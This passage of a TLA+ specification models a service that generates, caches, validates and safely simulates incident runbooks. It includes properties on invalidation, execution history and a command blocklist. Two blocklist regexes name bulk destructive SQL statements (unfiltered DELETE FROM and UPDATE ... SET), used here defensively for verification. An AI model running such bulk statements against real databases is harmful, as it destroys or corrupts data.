             resp'.op = "generate" /\ resp'.status = 200 /\ resp'.incident_id = i]_vars

\* a read found an expired entry and deleted it
C9_Witness ==
    /\ resp.op = "get"
    /\ resp.status = 404
    /\ resp.body.expired
    /\ resp.incident_id \notin DOMAIN runbooks_cache

\* C10: an incident has execution results only while its runbook is cached.
C10_HistoryOnlyWithRunbook ==
    \A i \in DOMAIN execution_history :
        execution_history[i] # <<>> => i \in DOMAIN runbooks_cache

\* C11: clearing an incident whose runbook is cached removes the cache entry
\* and the incident's execution history in the same step, whatever generate,
\* execute, read and history requests are under way: both are absent right
\* after it, and no step of any handler removes a history without removing
\* the runbook with it.
C11_InvalidateAtomic ==
    [][/\ (/\ resp = Idle
           /\ resp'.op = "clear"
           /\ resp'.incident_id \in DOMAIN runbooks_cache) =>
             /\ resp'.status = 200
             /\ resp'.incident_id \notin DOMAIN runbooks_cache'
             /\ resp'.incident_id \notin DOMAIN execution_history'
       /\ \A i \in DOMAIN execution_history \ DOMAIN execution_history' :
             i \in DOMAIN runbooks_cache /\ i \notin DOMAIN runbooks_cache']_vars

\* an incident was cleared while a generate request for it awaited its text and
\* the other incident kept its runbook and its history
C11_Witness ==
    /\ resp.op = "clear"
    /\ resp.status = 200
    /\ inflight[resp.incident_id] > 0
    /\ resp.incident_id \notin DOMAIN runbooks_cache
    /\ resp.incident_id \notin DOMAIN execution_history
    /\ \E j \in DOMAIN runbooks_cache : HistoryOf(execution_history, j) # <<>>

\* C12: every summary of a listing belongs to a cache entry at most 60 minutes
\* old, and the count it reports is the number of such entries.
C12_ListOnlyLive ==
    resp.op = "list" =>
        /\ \A s \in resp.body.runbooks : s.age_minutes <= CACHE_TTL_MINUTES
        /\ resp.body.cached_count = Cardinality({i \in DOMAIN runbooks_cache : Live(i)})

\* C13: an execute request is rejected, without a result and with every
\* history unchanged, when the incident has no live runbook, when no step has
\* the requested ordinal, or when the command index is negative or not below
\* the number of the step's commands.
C13_BadAddressRejected ==
    [][(/\ resp = Idle
        /\ resp'.op = "execute"
        /\ ~(/\ Live(resp'.incident_id)
             /\ Addresses(runbooks_cache[resp'.incident_id], resp'.request))) =>
          /\ resp'.status # 200
          /\ execution_history' = execution_history]_vars

\* in the step now taken, execute answers a request for a blocked command of a
\* live runbook which the confirmation gate lets pass
ExecutesBlocked ==
    /\ resp = Idle
    /\ resp'.op = "execute"
    /\ Live(resp'.incident_id)
    /\ Addresses(runbooks_cache[resp'.incident_id], resp'.request)
    /\ Blocked(Addressed(runbooks_cache[resp'.incident_id], resp'.request).command)
    /\ ~(/\ Addressed(runbooks_cache[resp'.incident_id], resp'.request).risk_level = "high"
         /\ ~resp'.request.dry_run
         /\ ~resp'.request.confirmed)

\* the ExecutionResult of a blocked command: no success, no output, and an error
\* that holds the classifier's reason, which names a blocklist rule the command
\* matches
BlockedResult(result, command) ==
    /\ result.command = command
    /\ ~result.success
    /\ result.output = ""
    /\ str_contains(result.error, classify(command)[3])
    /\ \E i \in 1..Len(DANGEROUS_PATTERNS) :
          /\ classify(command)[3] = BlockedReason(DANGEROUS_PATTERNS[i].src)
          /\ re_search(DANGEROUS_PATTERNS[i].re, command, TRUE)

PreviewPrefix == "[DEMO MODE] Command would execute:\n"

\* the command of the cached runbook that the request just answered executed
Executed ==
    PyIndex(runbooks_cache[resp.incident_id].steps[
                First({i \in 1..Len(runbooks_cache[resp.incident_id].steps) :
                         runbooks_cache[resp.incident_id].steps[i].step_number
                            = resp.request.step_number})].commands,
            resp.request.command_index)

\* C15: the result of executing a command the classifier allows reports
\* success in both modes; the output of a dry run is the simulation of the
\* command's text and expected-output hint alone, and the output of a live
\* request is the preview prefix followed by the output of the dry run of the
\* same command.
C15_LiveIsPrefixedDryRun ==
    Returned /\ ~Blocked(resp.body.command) =>
        /\ resp.body.success
        /\ resp.body.error = None
        /\ resp.request.dry_run =>
              resp.body.output =
                  generate_simulated_output(
                      [command |-> resp.body.command,
                       expected_output |-> Executed.expected_output])
        /\ ~resp.request.dry_run =>
              resp.body.output =
                  PreviewPrefix \o execute(Executed, TRUE, resp.request.executed_by).output

\* a live request for an allowed command with an expected-output hint was
\* answered with the prefixed hint
C15_Witness ==
    /\ Returned
    /\ ~resp.request.dry_run
    /\ ~Blocked(resp.body.command)
    /\ Executed.expected_output = "ok"
    /\ resp.body.success
    /\ resp.body.output = PreviewPrefix \o "ok"

\* the responses of the text-generation service with which a generation fails:
\* the call raised, the text holds no JSON object, the object has no steps, or
\* one of the steps kept has null for its commands
FailsGeneration(response, max_steps) ==
    \/ response.form \in {"raise", "none"}
    \/ "steps" \notin DOMAIN response.data
    \/ response.data.steps = <<>>
    \/ \E n \in 1..Min(Len(response.data.steps), max_steps) :
          /\ "commands" \in DOMAIN response.data.steps[n]
          /\ response.data.steps[n].commands = None

\* C16: a generate request that fails, for an unknown incident, a failed
\* text-generation call, a text without a JSON object, an object without
\* steps or a construction error, leaves the cache and every execution
\* history as they were; the runbook cached before stays in the cache.
C16_FailedGenerateKeepsState ==
    [][/\ (resp = Idle /\ resp'.op = "generate" /\ resp'.status # 200) =>
             /\ runbooks_cache' = runbooks_cache
             /\ execution_history' = execution_history
       /\ \A k \in 1..Len(AllResponses), m \in MaxStepsChoices :
             (FailsGeneration(AllResponses[k], m) /\ GenerateFinish(EdgeIncident, k, m)) =>
                 /\ resp'.status = 500
                 /\ runbooks_cache' = runbooks_cache
                 /\ execution_history' = execution_history]_vars

\* a generation failed with a construction error while a runbook was cached
\* for the incident and a result was recorded
C16_Witness ==
    /\ resp.op = "generate"
    /\ resp.status = 500
    /\ str_contains(resp.body, "Failed to construct runbook: 'NoneType'")
    /\ resp.incident_id \in DOMAIN runbooks_cache
    /\ HistoryOf(execution_history, resp.incident_id) # <<>>

\* the positions <<step, command>> of the commands of a runbook
Positions(runbook) ==
    {p \in (1..Len(runbook.steps)) \X (1..3) : p[2] <= Len(runbook.steps[p[1]].commands)}

CommandAt(runbook, p) == runbook.steps[p[1]].commands[p[2]].command

BlockedAt(runbook) == {p \in Positions(runbook) : Blocked(CommandAt(runbook, p))}

EmptyAt(runbook) == {p \in Positions(runbook) : str_strip(CommandAt(runbook, p)) = ""}

\* the handler that ran last validated the runbook that is cached for the incident
Validation == resp.op = "validate" /\ resp.status = 200

\* C17: a validation gives is_valid = TRUE exactly when the runbook has no
\* blocked command and no command that is empty or only whitespace; each
\* blocked command and each empty command has an issue of its own, so the
\* issues are as many as these commands; warnings leave is_valid alone.
C17_ValidIffNoIssue ==
    Validation =>
        LET runbook == runbooks_cache[resp.incident_id]
        IN  /\ resp.body.is_valid <=> (BlockedAt(runbook) = {} /\ EmptyAt(runbook) = {})
            /\ Len(resp.body.issues) =
                  Cardinality(BlockedAt(runbook)) + Cardinality(EmptyAt(runbook))
            /\ \A p \in BlockedAt(runbook) : \E n \in 1..Len(resp.body.issues) :
                  resp.body.issues[n] =
                      "Step " \o ToString(runbook.steps[p[1]].step_number)
                      \o ", Command " \o ToString(p[2]) \o ": "
                      \o classify(CommandAt(runbook, p))[3]
            /\ \A p \in EmptyAt(runbook) :
                  Cardinality({n \in 1..Len(resp.body.issues) :
                      resp.body.issues[n] =
                          "Step " \o ToString(runbook.steps[p[1]].step_number)
                          \o ": Empty command found"})
                  = Cardinality({q \in EmptyAt(runbook) :
                        runbook.steps[q[1]].step_number = runbook.steps[p[1]].step_number})

\* a runbook with three blocked commands, a command without text and one of
\* whitespace was validated: five issues
C17_Witness ==
    /\ Validation
    /\ ~resp.body.is_valid
    /\ Cardinality(BlockedAt(runbooks_cache[resp.incident_id])) = 3
    /\ Cardinality(EmptyAt(runbooks_cache[resp.incident_id])) = 2
    /\ Len(resp.body.issues) = 5
    /\ resp.body.warnings # <<>>

\* some warning of the validation names step S and its prerequisite p
Warned(warnings, kind, S, p) ==
    \E n \in 1..Len(warnings) :
        /\ str_startswith(warnings[n], "Step " \o ToString(S) \o " ")
        /\ str_contains(warnings[n], kind \o ToString(p))

\* C18: for every step S and every prerequisite p it lists, the validation
\* warns with S and p when no step has the ordinal p, and when a step has the
\* ordinal p and p >= S (p = S included); the warnings leave is_valid alone: a
\* runbook without blocked and empty commands is valid.
C18_PrerequisiteWarnings ==
    Validation =>
        LET runbook == runbooks_cache[resp.incident_id]
            ordinals == {runbook.steps[i].step_number : i \in 1..Len(runbook.steps)}
        IN  /\ \A i \in 1..Len(runbook.steps) :
                  \A k \in 1..Len(runbook.steps[i].prerequisite_steps) :
                      LET S == runbook.steps[i].step_number
                          prereq == runbook.steps[i].prerequisite_steps[k]
                      IN  /\ prereq \notin ordinals =>
                                Warned(resp.body.warnings,
                                       "non-existent prerequisite step ", S, prereq)
                          /\ prereq \in ordinals /\ prereq >= S =>
                                Warned(resp.body.warnings, "invalid prerequisite ", S, prereq)
            /\ (BlockedAt(runbook) = {} /\ EmptyAt(runbook) = {}) => resp.body.is_valid

\* the runbook with the steps 1, 2, 3 was validated: step 3 lists the missing
\* step 5, step 2 the later step 3 and step 1 itself; it is valid
C18_Witness ==
    /\ Validation
    /\ resp.body.is_valid
    /\ runbooks_cache[resp.incident_id].total_steps = 3
    /\ Warned(resp.body.warnings, "non-existent prerequisite step ", 3, 5)
    /\ Warned(resp.body.warnings, "invalid prerequisite ", 2, 3)
    /\ Warned(resp.body.warnings, "invalid prerequisite ", 1, 1)

\* the generated data has a JSON object in which one of the steps kept has no
\* list of commands: the key is missing or its value is null
LacksCommandsList(response, max_steps) ==
    /\ response.form \in {"direct", "fenced", "embedded"}
    /\ "steps" \in DOMAIN response.data
    /\ \E n \in 1..Min(Len(response.data.steps), max_steps) :
          \/ "commands" \notin DOMAIN response.data.steps[n]
          \/ response.data.steps[n].commands = None

\* C19: a generation from data in which one of the steps kept has no commands
\* list fails: the request is answered with an error and nothing is cached.
C19_MissingCommandsFails ==
    [][\A k \in 1..Len(AllResponses), m \in MaxStepsChoices :
          (LacksCommandsList(AllResponses[k], m) /\ GenerateFinish(EdgeIncident, k, m)) =>
              /\ resp'.status = 500
              /\ runbooks_cache' = runbooks_cache]_vars

\* every blocked command of the runbook has a warning with the number of its
\* step and the classifier's blocking reason
Flagged(runbook) ==
    \A p \in BlockedAt(runbook) : \E n \in 1..Len(runbook.warnings) :
        /\ str_contains(runbook.warnings[n],
                        "Step " \o ToString(runbook.steps[p[1]].step_number))
        /\ str_contains(runbook.warnings[n], classify(CommandAt(runbook, p))[3])

\* C20: every runbook that generate returns, and every runbook in the cache,
\* has for each of its blocked commands a warning that names the command's
\* step and the blocking reason.
C20_BlockedIsFlagged ==
    /\ \A i \in DOMAIN runbooks_cache : Flagged(runbooks_cache[i])
    /\ resp.op = "generate" /\ resp.status = 200 => Flagged(resp.body)

\* a runbook with three blocked commands in two steps was generated and cached
C20_Witness ==
    /\ resp.op = "generate"
    /\ resp.status = 200
    /\ runbooks_cache[resp.incident_id] = resp.body
    /\ Cardinality(BlockedAt(resp.body)) = 3
    /\ Cardinality({resp.body.steps[p[1]].step_number : p \in BlockedAt(resp.body)}) = 2
    /\ Len(resp.body.warnings) >= 3

-----------------------------------------------------------------------------
(* Properties of the runbooks that generation builds *)

\* the advisory warnings of the validation of a runbook that its own warnings lack
Unreported(runbook, advisory) ==
    {n \in 1..Len(advisory) :
        \A w \in 1..Len(runbook.warnings) : runbook.warnings[w] # advisory[n]}

\* C21: after a successful generate, the warnings of the cached runbook hold
\* every advisory warning that the validator gives for that runbook, whether
\* or not the runbook has blocking issues.
C21_AdvisoryWarningsCached ==
    \A i \in DOMAIN runbooks_cache :
        Unreported(runbooks_cache[i], validate(runbooks_cache[i]).warnings) = {}

\* the step that an execute request for the ordinal of step a is answered from
Resolved(steps, a) ==
    First({b \in 1..Len(steps) : steps[b].step_number = steps[a].step_number})

\* C22: in every runbook that generate returns, and in every cached runbook,
\* the step ordinals are pairwise distinct and at least 1, and the step that
\* execute finds for the ordinal of a step is that step, so that each of its
\* commands can be addressed.
C22_OrdinalsAddress ==
    \A runbook \in Range(runbooks_cache)
                   \cup (IF resp.op = "generate" /\ resp.status = 200
                         THEN {resp.body} ELSE {}) :
        /\ \A a, b \in 1..Len(runbook.steps) :
              a # b => runbook.steps[a].step_number # runbook.steps[b].step_number
        /\ \A a \in 1..Len(runbook.steps) :
              /\ runbook.steps[a].step_number >= 1
              /\ Resolved(runbook.steps, a) = a

\* the texts of the commands of an element of the generated steps
GeneratedTexts(step_data) ==
    [j \in 1..Len(DictGet(step_data, "commands", <<>>)) |->
        DictGet(step_data.commands[j], "command", "")]

\* the step is built from that element of the generated steps
BuiltFrom(step, step_data) ==
    /\ step.category = step_data.category
    /\ step.estimated_duration = step_data.estimated_duration
    /\ [j \in 1..Len(step.commands) |-> step.commands[j].command]
          = GeneratedTexts(step_data)

\* C23: for max_steps of the request and n generated steps, the runbook that
\* generate builds holds the first min(n, max_steps) generated steps in their
\* order, never more than max_steps, and its total_steps is the number of its
\* steps.
C23_FirstMaxSteps ==
    [][\A k \in BuildChoices, m \in AllMaxSteps :
          GenerateFinish(EdgeIncident, k, m) /\ resp'.status = 200 =>
              /\ Len(resp'.body.steps) = Min(Len(AllResponses[k].data.steps), m)
              /\ Len(resp'.body.steps) <= m
              /\ \A i \in 1..Len(resp'.body.steps) :
                    BuiltFrom(resp'.body.steps[i], AllResponses[k].data.steps[i])
              /\ resp'.body.total_steps = Len(resp'.body.steps)]_vars

\* the seconds of a duration hint, lower-cased, when every unit it names counts
EveryUnitSeconds(duration) ==
    Contribution(FirstNumberBefore("second", duration), 1)
    + Contribution(FirstNumberBefore("minute", duration), 60)
    + Contribution(FirstNumberBefore("hour", duration), 3600)

\* C24: the estimated total time of a runbook is the sum over its steps of
\* the parsed duration hints, a hint adding the first number before every
\* unit it names (seconds, minutes, hours, in any letter case) and nothing
\* when it names none.
C24_TotalOfEveryUnit ==
    \A i \in DOMAIN runbooks_cache :
        runbooks_cache[i].estimated_total_time =
            FormatMinutes(RoundMinutes(SumSeq(
                [n \in 1..Len(runbooks_cache[i].steps) |->
                    EveryUnitSeconds(str_lower(runbooks_cache[i].steps[n].estimated_duration))])))

-----------------------------------------------------------------------------
(* Filtered SQL statements *)

\* an UPDATE or DELETE statement with a WHERE clause: the two medium-risk rules
\* 'UPDATE.*WHERE' and 'DELETE.*WHERE'
Filtered(command) ==
    \/ re_search(Lit("UPDATE") \o DOTS \o Lit("WHERE"), command, TRUE)
    \/ re_search(Lit("DELETE") \o DOTS \o Lit("WHERE"), command, TRUE)

\* the blocklist rules for the bulk statements: DELETE FROM <table>; and
\* UPDATE <table> SET ...;
BulkRules ==
    {i \in 1..Len(DANGEROUS_PATTERNS) :
        DANGEROUS_PATTERNS[i].src \in {"DELETE\\s+FROM\\s+\\w+\\s*;",
                                       "UPDATE\\s+\\w+\\s+SET.*\\s*;"}}

\* C25: an UPDATE or DELETE statement with a WHERE clause that matches no
\* blocklist rule other than the two for bulk statements, and starts with no
\* safe prefix, is classified (allowed, medium), with or without a semicolon
\* at its end.
C25_FilteredIsMedium ==
    (/\ Filtered(cmd)
     /\ Matching(DANGEROUS_PATTERNS, cmd) \subseteq BulkRules
     /\ ~StartsWithSafe(cmd))
        => verdict[1] = TRUE /\ verdict[2] = "medium"

-----------------------------------------------------------------------------
(* Properties of a burst of generate requests *)

\* the runbooks that a generation of the burst builds when it returns at utcnow
BurstRunbooks(utcnow) ==
    {GenerateTable[EdgeIncident, k, m, utcnow] : k \in BurstChoices, m \in MaxStepsChoices}

\* a generation of the burst returned and its handler answered 200
BurstReturned == resp = Idle /\ resp'.op = "generate" /\ resp'.status = 200

\* C26: while several generate requests for one incident are in flight, the
\* cache entry of the incident is absent or is, whole, the runbook that one of
\* them built; each generation that returns replaces the entry by its own
\* runbook, whose generated_at is not before that of the entry it replaces, so
\* that when all have returned the entry is the runbook of the one that
\* returned last, which has the latest generated_at.
C26_LastGenerationWins ==
    [][/\ EdgeIncident \in DOMAIN runbooks_cache' =>
             /\ runbooks_cache'[EdgeIncident] \in GeneratedRunbooks
             /\ runbooks_cache'[EdgeIncident].incident_id = EdgeIncident
       /\ BurstReturned =>
             /\ DOMAIN runbooks_cache' = {EdgeIncident}
             /\ runbooks_cache'[EdgeIncident] = resp'.body
             /\ resp'.body.generated_at = now
             /\ EdgeIncident \in DOMAIN runbooks_cache =>
                   runbooks_cache[EdgeIncident].generated_at <= resp'.body.generated_at]_vars

\* the last generation of the burst returned an hour after an earlier one whose
\* runbook was cached and executed; its runbook, another one, is the entry
C26_Witness ==
    /\ inflight[EdgeIncident] = 0
    /\ resp.op = "generate"
    /\ resp.status = 200
    /\ resp.body.generated_at = 60
    /\ runbooks_cache[EdgeIncident] = resp.body
    /\ EdgeIncident \in DOMAIN execution_history
    /\ \A p \in Positions(resp.body) :
          CommandAt(resp.body, p) # execution_history[EdgeIncident][1].command

\* The entry of the burst's incident has been invalidated: a generation of the
\* burst has returned, each of them stores an entry, and at time 0 no entry
\* has expired, so an entry that is absent was removed by clear_runbook_cache.
\* The generations still in flight were issued before that.
Invalidated ==
    /\ now = 0
    /\ inflight[EdgeIncident] < MaxBurst
    /\ EdgeIncident \notin DOMAIN runbooks_cache

\* C27: after an invalidation of an incident, its entry stays absent until a
\* generate request issued after the invalidation returns; a generation that
\* was in flight when the invalidation ran does not store an entry.  In a
\* burst no generate request is issued after the invalidation.
C27_InvalidationHolds ==
    [][Invalidated => EdgeIncident \notin DOMAIN runbooks_cache']_vars

\* a read that removed an expired entry: the handlers that read through
\* get_runbook_from_cache answer 404
ExpiredOnRead ==
    /\ resp'.op \in {"get", "execute", "validate"}
    /\ resp'.status = 404
    /\ resp'.incident_id \in DOMAIN runbooks_cache
    /\ now - runbooks_cache[resp'.incident_id].generated_at > CACHE_TTL_MINUTES
    /\ runbooks_cache' = DictDel(runbooks_cache, resp'.incident_id)

\* C28: a cached runbook is not changed while it is cached: the cache changes
\* only when a generate replaces an entry by the runbook it built, when an
\* invalidation removes an entry, or when a read removes an expired entry; a
\* get, validate or execute on a live entry, get_history and list_cached
\* leave the cache as it is.
C28_CacheFrame ==
    [][/\ runbooks_cache' # runbooks_cache =>
             \/ /\ BurstReturned
                /\ runbooks_cache' = DictSet(runbooks_cache, resp'.incident_id, resp'.body)
             \/ /\ resp'.op = "clear"
                /\ resp'.status = 200
                /\ runbooks_cache' = DictDel(runbooks_cache, resp'.incident_id)
             \/ ExpiredOnRead
       /\ resp = Idle /\ resp'.op \in {"history", "list"} => UNCHANGED runbooks_cache
       /\ resp = Idle /\ resp'.op \in {"get", "validate", "execute"} /\ resp'.status # 404
             => UNCHANGED runbooks_cache]_vars

\* a cached runbook with warnings of the validator and a blocked command, an
\* hour old, was validated and executed twice, and is listed as it was built
C28_Witness ==
    /\ resp.op = "list"
    /\ now = 60
    /\ EdgeIncident \in DOMAIN runbooks_cache
    /\ runbooks_cache[EdgeIncident] \in BurstRunbooks(0)
    /\ validate(runbooks_cache[EdgeIncident]).warnings # <<>>
    /\ BlockedAt(runbooks_cache[EdgeIncident]) # {}
    /\ Len(HistoryOf(execution_history, EdgeIncident)) = 2
    /\ ~execution_history[EdgeIncident][1].success

-----------------------------------------------------------------------------
(* Properties of the execution history *)

\* an execute request was not rejected: the handler answered 200 with a result
Accepted == resp = Idle /\ resp'.op = "execute" /\ resp'.status = 200

\* the command that the request of the response addresses in the cached runbook
AddressedCommand(runbook, request) ==
    PyIndex(runbook.steps[First({i \in 1..Len(runbook.steps) :
                runbook.steps[i].step_number = request.step_number})].commands,
            request.command_index)

\* the result is appended to the history of its incident, which is otherwise as
\* it was, and carries the ordinal and the index of the request and the text
\* of the command they address
AppendedLast ==
    /\ execution_history' =
          DictSet(execution_history, resp'.incident_id,
                  Append(HistoryOf(execution_history, resp'.incident_id), resp'.body))
    /\ resp'.body.step_number = resp'.request.step_number
    /\ resp'.body.command_index = resp'.request.command_index
    /\ resp'.body.command =
          AddressedCommand(runbooks_cache[resp'.incident_id], resp'.request).command

\* the response of get_history has the entries in the order of the history,
\* their number, and the counts of the successful and of the failed entries
Reported(body, history) ==
    /\ body.history = history
    /\ body.executions_count = Len(history)
    /\ {"successful_count", "failed_count"} \subseteq DOMAIN body
    /\ body.successful_count + body.failed_count = body.executions_count

\* C29: each execute request that is not rejected appends one result to the
\* end of the incident's history, with the ordinal and the index of the
\* request and the text of the command at that position; the history changes
\* in no other way but by an invalidation, which removes it; get_history
\* returns the entries in their order with executions_count their number and
\* successful_count + failed_count = executions_count.
C29_AppendOnlyHistory ==
    [][/\ Accepted => AppendedLast
       /\ execution_history' # execution_history =>
             \/ Accepted
             \/ /\ resp'.op = "clear"
                /\ resp'.status = 200
                /\ execution_history' = DictDel(execution_history, resp'.incident_id)
       /\ resp = Idle /\ resp'.op = "history" =>
             Reported(resp'.body, HistoryOf(execution_history, resp'.incident_id))]_vars

\* C30: a generate that succeeds for an incident with execution history
\* leaves the history as it is; the results recorded against the runbook it
\* replaced stay, in their order, in the history that get_history returns, and
\* the results of later executions against the new runbook come after them.
C30_GenerateKeepsHistory ==
    [][/\ BurstReturned => UNCHANGED execution_history
       /\ Accepted =>
             SubSeq(execution_history'[resp'.incident_id], 1,
                    Len(HistoryOf(execution_history, resp'.incident_id)))
                 = HistoryOf(execution_history, resp'.incident_id)
       /\ resp = Idle /\ resp'.op = "history" =>
             resp'.body.history = HistoryOf(execution_history, resp'.incident_id)]_vars

\* get_history returns two results: the first of a command that only the
\* replaced runbook holds, the second of the first command of the new runbook,
\* which the replaced runbook holds elsewhere
C30_Witness ==
    /\ resp.op = "history"
    /\ resp.body.executions_count = 2
    /\ resp.body.history = execution_history[EdgeIncident]
    /\ resp.body.history[1].command = "kubectl get pods"
    /\ resp.body.history[2].command = "chmod 644 app.conf"
    /\ resp.body.history[2].step_number = 1
    /\ resp.body.history[2].command_index = 0
    /\ EdgeIncident \in DOMAIN runbooks_cache
    /\ CommandAt(runbooks_cache[EdgeIncident], <<1, 1>>) = "chmod 644 app.conf"

=============================================================================
